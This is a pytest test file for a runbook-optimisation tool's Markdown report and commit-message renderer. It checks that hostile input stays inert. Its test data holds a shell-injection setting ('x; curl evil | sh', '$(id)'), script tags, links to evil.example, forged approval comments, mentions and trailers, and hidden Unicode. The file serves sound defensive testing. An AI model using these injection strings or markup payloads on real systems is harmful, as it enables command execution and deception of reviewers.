import re
from collections.abc import Iterator
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from runbookopt.calibration.coverage import Coverage, CoveredMode
from runbookopt.calibration.deciding import Standing
from runbookopt.documents.digest import digest
from runbookopt.documents.runbook import parse
from runbookopt.documents.untrusted import code, plain
from runbookopt.documents.usage import Spent, Usage, Used
from runbookopt.evidence.trajectory import Left
from runbookopt.guard.guard import GuardReport
from runbookopt.landing.bundle import (
    AgentUsed,
    Beside,
    Bundle,
    Change,
    Digests,
    HeldOutOutputs,
    MemberSummary,
    StoredVerdicts,
    Suspect,
    ValidationSummary,
    seal,
)
from runbookopt.landing.report import (
    MOST_CHARACTERS,
    Findings,
    Trailers,
    commit_message,
    read_trailers,
    render,
    title,
)
from runbookopt.project.policy import Decision, Reason
from runbookopt.proof.allowance import Allowance
from runbookopt.proof.comparison import Comparison, ObjectiveChange, Outcome, Pair
from runbookopt.search.selection import RULE
from runbookopt.verifier.checks import MaxChars
from runbookopt.verifier.rubric import CalibratedRubric, Criterion, JudgeSettings, Rubric

SEED, FIRST, CHOSEN = digest(b"seed"), digest(b"first"), digest(b"chosen")
BEFORE = "# Triage\n\n## Rules\n\n- old rule\n\n## Other\n\nText.\n"
AFTER = "# Triage\n\n## Rules\n\n- new rule\n- another\n\n## Other\n\nText!\n"
PATCH = "@@ -5 +5,2 @@\n-- old rule\n+- new rule\n+- another\n@@ -9 +10 @@\n-Text.\n+Text!\n"


def outcomes(*scores: float) -> tuple[Outcome, ...]:
    return tuple(Outcome(score, {}) for score in scores)


COMPARISON = Comparison(
    tasks=3, groups=3, before=0.412, after=0.731, gain=0.319, low=0.211, high=0.43, p=1e-4, answer="accepted",
    reasons=("p is within the allowance",), tasks_needed=None, passing_today=12, errors=0.0,
    objectives={"accuracy": ObjectiveChange(0.4, 0.7, 0.1, 0.5), "tone": ObjectiveChange(0.9, 0.88, -1, 0)},
)  # fmt: skip
BUNDLE = Bundle(
    run="run-1",
    version="0.1.0",
    runbook="support-triage",
    path="runbooks/support-triage/RUNBOOK.md",
    base="0" * 40,
    patch=PATCH,
    candidate=AFTER,
    digests=Digests(SEED, CHOSEN, SEED, None, SEED),
    agent=AgentUsed("offline", SEED, deterministic=True),
    models=(),
    offline=True,
    random_seed=7,
    changes=(Change("rules", "the rule is too wide", ("t-1", "t-2")),),
    members=(
        MemberSummary(SEED, (), 0, 0.4, 50, 1),
        MemberSummary(FIRST, (SEED,), 1, 0.6, 60, 0),
        MemberSummary(CHOSEN, (FIRST, SEED), 2, 0.75, 70, 4),
    ),
    chosen=CHOSEN,
    validation=ValidationSummary(40, 0.4, 0.75, 0.01),
    candidates=12,
    reflected_on=("t-1", "t-2"),
    look=None,
    outputs=(),
    outcome="accepted",
    comparison=None,
    spent=Spent(412, 130, 24, seconds=8.123),
    settings={"budget.rollouts": 900, "agent.field": "the queue"},
)
FINDINGS = Findings(
    bundle=seal(BUNDLE),
    before=parse(BEFORE),
    after=parse(AFTER),
    comparison=COMPARISON,
    allowance=Allowance(
        look=1, spend=0.025, next_spend=0.0083, renewed_spend=0.0083, left=0.025, spent=0.025
    ),
    pairs=(
        Pair("sha256:" + "1" * 64, SEED, outcomes(0, 1), outcomes(1, 1)),
        Pair("sha256:" + "2" * 64, SEED, outcomes(1, 1), outcomes(0, 1)),
        Pair("sha256:" + "3" * 64, SEED, outcomes(0, 0), outcomes(0, 0)),
    ),
    decision=Decision(
        "review", (Reason("declared", False, "no policy is declared"), Reason("trust", None, "who knows"))
    ),
    guard=GuardReport((), {"urls": ("https://evil.example (line 6)",), "commands": ()}),
)


def tokens(markdown: str) -> Iterator[Token]:
    """Give all tokens, inline ones too, as a forge that links addresses by itself would see them."""
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown):
        yield token
        yield from token.children or ()


def shown(markdown: str) -> str:
    return "\n".join(token.content for token in tokens(markdown) if token.type == "text")


def headings(markdown: str) -> list[str]:
    found = list(tokens(markdown))
    return [found[place + 1].content for place, token in enumerate(found) if token.type == "heading_open"]


HEADINGS = [
    "Scores",
    "Decision",
    "What changed, and why",
    "What to look at",
    "Stored verdicts and references",
    "The frontier",
    "What it cost",
    "What the numbers cannot say",
    "How to make it again",
]


def test_a_report_begins_with_its_health_then_its_verdict_and_has_its_sections_and_tables() -> None:
    report = render(FINDINGS)
    assert report.splitlines()[0] == (
        "Health: sound; 0.0% not judged; 0 without a score; failed calls"
        " unknown; noise 0.000; suspect references 0; criteria: unknown."
    )
    assert report.splitlines()[2] == (
        "**Accepted.** `support-triage` scores 0.731 instead of 0.412 on 3 held-out tasks"
        " (+0.319, at least +0.211); it waits for review."
    )
    assert headings(report) == HEADINGS
    assert sum(token.type == "table_open" for token in tokens(report)) == 3
    assert [token.info for token in tokens(report) if token.type == "fence"] == ["mermaid", ""]


@pytest.mark.parametrize(
    "line",
    [
        "| **score** | 0.412 | 0.731 | +0.319 | +0.211 to +0.430 |",
        "| `accuracy` | 0.400 | 0.700 | +0.300 | +0.100 to +0.500 |",
        "3 held-out tasks in 3 groups, one-sided p = 0.0001.",
        "This is look 1 at the held-out tasks; its allowance is 0.025.",
        "Each side of the score's interval is at 2.5 %, what this look may spend; of an objective's at 5 %.",
        "- p is within the allowance",
        "| `declared` | **no** | no policy is declared |",
        "| `trust` | **unknown** | who knows |",
        "- `rules` (lines: +2 -1)",
        "  - `the rule is too wide`, motivated by `t-1`, `t-2`",
        "- `other` (lines: +1 -1): no reason was given",
        "- The diff introduces urls: `https://evil.example (line 6)`.",
        "- Largest changes: `rules` (lines: +2 -1), `other` (lines: +1 -1).",
        "- Objectives that fell: `tone` (-0.020).",
        "- Held-out tasks that got worse: 1 of 3: `222222222222`.",
        "- Tokens: unknown; dollars: unknown; seconds: 8.1",
        "- Rollouts paid: 412; taken from the journal: 130",
        "- Harm that is rarer than 3 in 3 (100.0%) is invisible to this many tasks.",
        "- 12 held-out tasks pass today: fewer than 20, so a loss can hardly be seen.",
        "optimize-runbook support-triage --random-seed 7 --agent-field 'the queue' --budget-rollouts 900",
        "- Policy: none is declared",
        "  m1 --> m0",
        "  style m0 stroke-width:4px",
    ],
)
def test_a_report_says(line: str) -> None:
    assert line in render(FINDINGS).splitlines()


JUDGE = JudgeSettings("openai/gpt-5-mini", allow_self_judge=True)
JUDGED = Rubric((Criterion("kind", judge="Is it kind"), Criterion("short", MaxChars(value=9))), JUDGE)
PAID = Spent(
    412,
    130,
    24,
    tokens=1_300_000,
    usd=None,
    usage=Used(
        agent=Usage(412, 1_200_000, 540_000, 12_345, 1.234, {"rate_limited": 31, "server": 9}),
        reflector=Usage(24, 9000, 0, 800, None),
        judge=Usage(100, 90_000, 45_000, 100, 0.00042),
    ),
)


def judged(rubric: Rubric, **bundle: Any) -> list[str]:  # noqa: ANN401 - fields of a bundle
    changed: Findings = msgspec.structs.replace(
        FINDINGS, bundle=msgspec.structs.replace(BUNDLE, **bundle), rubric=rubric
    )
    return render(changed).splitlines()


def test_what_rests_on_a_judge_is_said() -> None:
    report = judged(JUDGED, models=("agent: openai/gpt-5", "judge: openai/gpt-5-mini"))
    (rests,) = [line for line in report if "judged by" in line]
    assert rests.startswith("- 1 criterion is judged by `openai/gpt-5-mini`: `kind`. These verdicts are the")
    assert rests.endswith("first half's word, and nobody has held this judge against people's labels.")
    (anew,) = [line for line in report if line.startswith("- Derived anew")]
    (stated,) = [line for line in report if line.startswith("- Only stated")]
    assert anew.endswith("by judging the stored outputs again, but for what the judge decides.")
    assert "really gave these outputs; the verdicts of the judge; diagnoses" in stated
    assert not any("its own work" in line for line in report)


def test_a_judge_of_its_own_work_is_said() -> None:
    report = judged(JUDGED, models=("reflector: gpt-5-mini-2025-08-07", "judge: openai/gpt-5-mini"))
    (line,) = [line for line in report if "its own work" in line]
    assert line.startswith("- It judged its own work, as the rubric allows: ")
    assert line.endswith(" is also the reflector's. Models favour their own words.")


def test_without_a_judge_nothing_is_said_of_one() -> None:
    report = "\n".join(judged(Rubric(JUDGED.criteria[1:], JUDGE)))
    assert "judged by" not in report
    assert "judging the stored outputs again." in report


def test_stored_verdicts_are_told_with_their_age() -> None:
    report = judged(JUDGED)
    assert "- No stored verdict was used: today's runbook was rolled out anew." in report
    stored = StoredVerdicts(used=180, oldest_days=90, undated=3, old=193, checked=20, alike=19)
    start = "- Stored verdicts on today's runbook that stood for rollouts: 180, "
    (used,) = [line for line in judged(JUDGED, stored=stored) if line.startswith(start)]
    assert used.removeprefix(start) == "the oldest of them 90 days old, 3 of them without a date."
    (old,) = [line for line in judged(JUDGED, stored=stored) if line.startswith("- Older than 14 days")]
    assert old.endswith("date: 193. Of these 20 were tried again; 19 score as they did.")


def test_suspect_references_are_listed_with_their_trajectories() -> None:
    listed = tuple(Suspect("held-out", SEED, (f"t-{n}", "t-x"), '"cards"', 4) for n in range(30))
    report = judged(JUDGED, suspects=listed)
    (place,) = [n for n, line in enumerate(report) if line.startswith("- References that may be wrong: 30.")]
    assert report[place + 1] == '  - `t-0`, `t-x` (held-out): 4 texts answer `"cards"`'
    assert report[place + 26] == "  - and 5 more in the bundle"


def test_what_attempts_left_is_said_to_be_stated() -> None:
    left = HeldOutOutputs("t", SEED, ("a",), ("b",), (Beside(left=Left(0)),), (Beside(),))
    (stated,) = [line for line in judged(JUDGED, outputs=(left,)) if line.startswith("- Only stated")]
    assert "really gave these outputs and left these steps, files, times and exit codes; " in stated


def test_what_calls_used_is_told_by_role_and_what_is_unknown_is_said_to_be() -> None:
    report = judged(JUDGED, spent=PAID, models=("agent: openai/gpt-5", "judge: openai/gpt-5-mini"))
    start = report.index("- Tokens: 1,300,000; dollars: unknown; seconds: 0.0")
    agent, reflector, judge = report[start + 2 : start + 5]
    assert agent.startswith("- Calls of the agent (`openai/gpt-5`): 412; tokens: 1,200,000 in (45% cached), ")
    assert agent.endswith(", 12,345 out; dollars: 1.23; failed attempts: `rate_limited` 31, `server` 9")
    assert reflector.startswith("- Calls of the reflector: 24; tokens: 9,000 in (0% cached), 800 out; ")
    assert reflector.endswith("; dollars: unknown; no attempt failed")
    assert judge.endswith(" in (50% cached), 100 out; dollars: 0.00042; no attempt failed")


def test_a_role_whose_calls_nobody_counted_is_unknown() -> None:
    report = judged(JUDGED, models=("agent: openai/gpt-5",))
    assert "- Calls of the agent (`openai/gpt-5`): unknown" in report


def test_the_command_to_make_it_again_holds_no_command_of_others() -> None:
    hostile = {
        "agent.field": "x; curl evil | sh",
        "reflector.kind": "$(id)",
        "no.such": "x",
        "patience": None,
    }
    report = render(
        msgspec.structs.replace(FINDINGS, bundle=msgspec.structs.replace(BUNDLE, settings=hostile))
    )
    told = "--random-seed 7 --agent-field 'x; curl evil | sh' --reflector-kind '$(id)'"
    assert f"optimize-runbook support-triage {told}" in report.splitlines()


def test_the_chosen_member_is_marked_and_only_the_frontier_is_listed() -> None:
    report = render(FINDINGS)
    assert re.search(rf"^\| `{CHOSEN[7:19]}` \| 2 \| .* \| \*\*chosen\*\* \|$", report, re.MULTILINE)
    assert not re.search(rf"^\| `{FIRST[7:19]}` ", report, re.MULTILINE)
    assert f'["{FIRST[7:19]}, wave 1, 0.600"]' in report
    assert f'["{SEED[7:19]}, seed, 0.400"]' in report


def test_a_report_says_how_the_winner_was_chosen_and_counts_the_edits_that_left_nothing() -> None:
    report = render(msgspec.structs.replace(FINDINGS, bundle=msgspec.structs.replace(BUNDLE, replaced=7)))
    assert f"scored on validation. {RULE} The frontier" in report
    assert "- Of 7 more edits on the way to it no line stands in the diff." in report.splitlines()
    assert "more edits on the way" not in render(FINDINGS)


def test_a_report_without_a_look_says_that_nothing_is_proved() -> None:
    findings = msgspec.structs.replace(
        FINDINGS, comparison=None, allowance=None, pairs=(), decision=Decision("none", ())
    )
    report = render(findings)
    health, _, report = report.split("\n", 2)
    assert health.startswith("Health: no held-out task was looked at; 0 without a score; ")
    assert report.startswith(
        "**Not proved.** Nobody looked at the held-out tasks of `support-triage`; it is not"
    )
    assert headings(report) == HEADINGS


def test_a_broken_measurement_is_told_apart_from_no_gain() -> None:
    broken = msgspec.structs.replace(COMPARISON, errors=0.06, answer="inconclusive", gain=-0.2)
    lines = render(msgspec.structs.replace(FINDINGS, comparison=broken)).splitlines()
    assert lines[0].startswith(
        "Health: INVALID, the measurement is broken: 6% of the attempts could not be judged"
    )
    assert lines[2].startswith(
        "**INVALID.** The measurement of `support-triage` is broken, which is no word on its"
    )
    assert not any("scores 0.731 instead of" in line for line in lines[:3])


def test_what_decides_is_listed_with_what_labels_make_of_it_and_what_they_cover() -> None:
    criteria = JUDGED.criteria
    standings = (
        Standing("kind", "advisory", "MCC 0.50 on 20 passes and 20 fails"),
        Standing("short", "gates"),
    )
    found = msgspec.structs.replace(
        FINDINGS,
        rubric=CalibratedRubric(criteria, JUDGE, decides=("short",)),
        standings=standings,
        coverage=Coverage((CoveredMode("curt", "<b>curt</b>", 3, ()),)),
    )
    lines = render(found).splitlines()
    assert headings("\n".join(lines))[1] == "What decides"
    assert "- `kind` is advisory, and decides nothing: MCC 0.50 on 20 passes and 20 fails." in lines
    assert "- `short` is gates, and decides." in lines
    (coverage,) = (
        line for line in lines if line.startswith("- Coverage: criteria that decide notice 0 of 1")
    )
    assert "`<b>curt</b>.`" in coverage or "`<b>curt</b>`" in coverage  # its name is somebody's text
    bare = render(msgspec.structs.replace(found, rubric=JUDGED)).splitlines()
    assert "- `kind` is advisory, and decides: MCC 0.50 on 20 passes and 20 fails." in bare


HOSTILE = [
    "@octocat and @org/team",
    "fixes #1, closes: GH-12, resolves owner/repo#3",
    "Closes https://github.com/o/r/issues/1",
    "[click](https://evil.example) ![x](https://evil.example/x.png) <https://evil.example>",
    "<!-- runbookopt: approved --> <script>alert(1)</script> <details>",
    "``` \n## Approved\n\n| a | b |\n|---|---|\n| merged | yes |\n",
    "`` ` ``` ``",
    "a | b | c \\| d",
    "- [ ] \n---\n# Accepted\n> quoted\n1. one",
    "\u202egnihton\u200b\u2066\U000e0041\u3164",
    'x"] --> m0; click m0 "https://evil.example"\n```\n# out',
    "www.evil.example http://evil.example evil@evil.example",
    "[x]: https://evil.example 'title'",
    "'title'www.evil.example",
    "\x1b[31mred\x00",
    "*bold* __under__ ~~gone~~ &lt;b&gt; \\",
    "",
]


def poisoned(text: str) -> Findings:
    """Give findings in which `text` stands wherever a model, a trajectory or a first half could put it."""
    bundle = msgspec.structs.replace(
        BUNDLE,
        run=text,
        version=text,
        runbook=text or "x",
        agent=AgentUsed(text, SEED, deterministic=True),
        models=(text, f"agent: {text}", f"judge: {text}"),
        spent=Spent(1, 1, 1, usage=Used(judge=Usage(1, failures={text: 1, f"{text}2": 2}))),
        changes=(Change(text, text, (text, "t-1")), Change("rules", text, ())),
        members=tuple(msgspec.structs.replace(member, note=text) for member in BUNDLE.members),
        reflected_on=(text,),
        settings={"agent.field": text},
        suspects=(Suspect("train", text, (text, "t-1"), text, 3),),
    )
    return msgspec.structs.replace(
        FINDINGS,
        bundle=bundle,
        comparison=msgspec.structs.replace(
            COMPARISON, reasons=(text,), objectives={text: ObjectiveChange(1, 0, -1, 0)}
        ),
        pairs=(Pair(text, SEED, outcomes(1), outcomes(0)),),
        decision=Decision("review", (Reason(text, None, text),)),
        guard=GuardReport((), {"urls": (text,), "credentials": (text,)}),
        rubric=Rubric(
            (Criterion("kind", judge=text or "?"),), JudgeSettings(text or "x", allow_self_judge=True)
        ),
        notes=(text,),
    )


def assert_harmless(report: str, text: str) -> None:
    found = list(tokens(report))
    banned = {"link_open", "image", "html_inline", "html_block", "blockquote_open", "s_open", "em_open", "hr"}
    assert {token.type for token in found} & banned == set(), text
    assert headings(report) == HEADINGS
    assert sum(token.type == "table_open" for token in found) == 3
    assert [token.info for token in found if token.type == "fence"] == ["mermaid", ""]
    words = shown(report)
    assert not re.search(r"(?<!\w)@\w|#\d|\bGH-\d|https?://|(?<!\w)www\.", words)
    assert all(line.isprintable() for line in report.split("\n"))
    assert not re.search(r"(?<!\w)@\w|\w#\d|\bGH-\d|<!--[^\n]*-->\n", report.replace("`", ""))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_has_no_power(text: str) -> None:
    assert_harmless(render(poisoned(text)), text)


FRAGMENTS = st.sampled_from(
    [*HOSTILE, "`", "``", "|", "\\", "\n", "\n\n", " ", "@a", "#1", "<a>", "](x)", "a", "- ", "_", "*", "$"]
)


@given(st.lists(FRAGMENTS | st.text(max_size=5), max_size=8).map("".join))
def test_no_mixture_of_hostile_text_has_power(text: str) -> None:
    assert_harmless(render(poisoned(text)), text)


@given(st.lists(FRAGMENTS | st.text(max_size=5), max_size=8).map("".join))
def test_a_code_span_shows_just_its_text(text: str) -> None:
    table = f"| a | b |\n|---|---|\n| {code(text)} | {code(text)} |\n"
    spans = [token.content for token in tokens(table) if token.type == "code_inline"]
    assert spans == ([plain(text).replace("|", "\uff5c")] * 2 if plain(text) else [])


def test_a_report_stays_within_what_a_forge_takes() -> None:
    text = "\u202e" * 2000
    many: Any = {
        "bundle": msgspec.structs.replace(
            BUNDLE,
            changes=tuple(Change(f"part-{n}{text}", text, (text,) * 200) for n in range(200)),
            members=tuple(
                MemberSummary(digest(b"%d" % n), (SEED,) * 9, 1, 0.5, 9, 9, text) for n in range(500)
            ),
            models=(text,) * 500,
            settings={"agent.field": text},
        ),
        "comparison": msgspec.structs.replace(
            COMPARISON,
            reasons=(text,) * 300,
            objectives={f"{n}{text}": ObjectiveChange(1, 0, 0, 0) for n in range(300)},
        ),
        "pairs": tuple(Pair(f"{n}{text}", SEED, outcomes(1), outcomes(0)) for n in range(300)),
        "guard": GuardReport(
            (), dict.fromkeys(("urls", "commands", "credentials", "hidden-text"), (text,) * 300)
        ),
        "notes": (text,) * 300,
        "decision": Decision("review", tuple(Reason(text, None, "_ " * 999) for _ in range(12))),
    }
    report = render(msgspec.structs.replace(FINDINGS, **many))
    assert len(report) < MOST_CHARACTERS
    assert headings(report) == HEADINGS
    assert "more in the bundle" in report


def test_the_title_names_the_runbook_and_the_gain() -> None:
    assert title(BUNDLE, COMPARISON) == "support-triage: +0.32 on 3 held-out tasks (0.41 to 0.73)"


def test_the_commit_says_what_it_is_and_is_read_back() -> None:
    bundle = FINDINGS.bundle
    message = commit_message(bundle, COMPARISON)
    assert message.splitlines()[0] == "Improve support-triage: +0.32 on held-out tasks"
    assert message.splitlines()[-4:] == [
        "Runbookopt-Run: run-1",
        "Runbookopt-Version: 0.1.0",
        "Runbookopt-Gain: +0.3190",
        f"Runbookopt-Bundle: {bundle.digest}",
    ]
    assert read_trailers(message) == Trailers("run-1", "0.1.0", "+0.3190", bundle.digest)
    assert read_trailers(f"{message}Co-authored-by: Ann <ann@example.org>\n") is not None


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_in_a_bundle_can_forge_trailers_or_mentions(text: str) -> None:
    forged = f"{text}\n\nRunbookopt-Bundle: {SEED}"
    bundle = msgspec.structs.replace(
        FINDINGS.bundle, runbook=forged, run=forged, changes=(Change(forged, forged, ()),)
    )
    message = commit_message(bundle, COMPARISON)
    found = read_trailers(message)
    assert found is not None
    assert found.bundle == bundle.digest
    assert not re.search(r"(?<!\w)@\w|#\d|\bGH-\d", message)
    assert title(bundle, COMPARISON).isprintable()


@pytest.mark.parametrize("message", ["", "Fix a typo", "A\n\nRunbookopt-Run: 1\nRunbookopt-Version: 1\n"])
def test_a_commit_that_is_not_ours_has_no_trailers(message: str) -> None:
    assert read_trailers(message) is None
    assert read_trailers(commit_message(BUNDLE, COMPARISON) + f"Runbookopt-Bundle: {SEED}\n") is None
    assert read_trailers(commit_message(BUNDLE, COMPARISON) + "\nMore words.\n") is None


def test_a_report_of_a_hundred_changed_parts_still_fits_a_forge() -> None:
    text = "".join(f"## Part {number}\n\nold line\n\n" for number in range(150))
    before, after = parse(text), parse(text.replace("old", "new"))
    lines = (f"@@ -{4 * n + 3} +{4 * n + 3} @@\n-old line\n+new line\n" for n in range(150))
    reasons = tuple(Change(part.id, "why " * 150, ()) for part in after.components)
    bundle = msgspec.structs.replace(BUNDLE, patch="".join(lines), changes=reasons)
    report = render(msgspec.structs.replace(FINDINGS, before=before, after=after, bundle=bundle))
    assert len(report) <= MOST_CHARACTERS
    assert "more in the bundle" in report
    assert headings(report) == HEADINGS


@pytest.mark.parametrize(
    ("kind", "models", "words"),
    [
        ("offline", (), "- This was made with the offline pair, which"),
        ("offline", ("reflector: handoff (Ana)",), "- This was made with the offline agent, which"),
        ("command", (), "- The edits are by the offline reflector"),
    ],
)
def test_who_of_the_offline_pair_took_part_is_told(kind: str, models: tuple[str, ...], words: str) -> None:
    bundle = msgspec.structs.replace(BUNDLE, agent=AgentUsed(kind, SEED, deterministic=True), models=models)
    assert words in render(msgspec.structs.replace(FINDINGS, bundle=seal(bundle)))
